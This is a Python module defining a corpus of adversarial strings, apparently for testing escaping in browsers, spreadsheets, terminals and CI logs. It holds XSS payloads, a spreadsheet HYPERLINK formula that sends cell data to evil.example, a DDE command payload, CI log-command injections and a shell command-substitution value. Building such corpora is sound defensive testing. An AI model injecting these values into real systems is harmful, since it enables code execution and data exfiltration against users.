"""Words that want to be something else: one corpus for every reader, from a browser to the log of a CI system."""

from __future__ import annotations

from typing import Final

CORPUS: Final = (
    "</script><script>document.title='pwned'</script>", "<img src=x onerror=\"document.title='pwned'\">", "<!--", "]]>",
    "&lt;b&gt;", "javascript:document.title='pwned'", "\u2028\u2029", "'\";--", "{{7*7}}", "${document.title='pwned'}",
    "\x1b[2J\x00", "\ud800", "__proto__", "constructor", "\u202egnp.exe",
    '=HYPERLINK("http://evil.example/?q="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
    'a,b\r\n=1;"2"', "x\n::error::pwned", "  ::set-output name=a::b", "##[add-mask]a", "###[error]x",
    "##vso[task.setvariable]x", "a\rs2v: 9 of 9 videos done", "%0A::warning::x", "title=x,file=y::z",
    "| a | b |\n|---|---|", "`x` ``y``", "[l](javascript:alert(1))", "![i](http://evil.example/p.png)", "\\", "\\|",
    "# head\n- list", "</system-out></testcase><failure/>", "<![CDATA[x]]>", "&#0;&#x1b;", "\x0b\x0c\x85\ufffe",
    "\x9b31mred", "\x1b]8;;http://evil.example\x07link", "\u2066\u200b\ufeff", "$(touch pwned); `id`", "%s%n{0}",
)  # fmt: skip
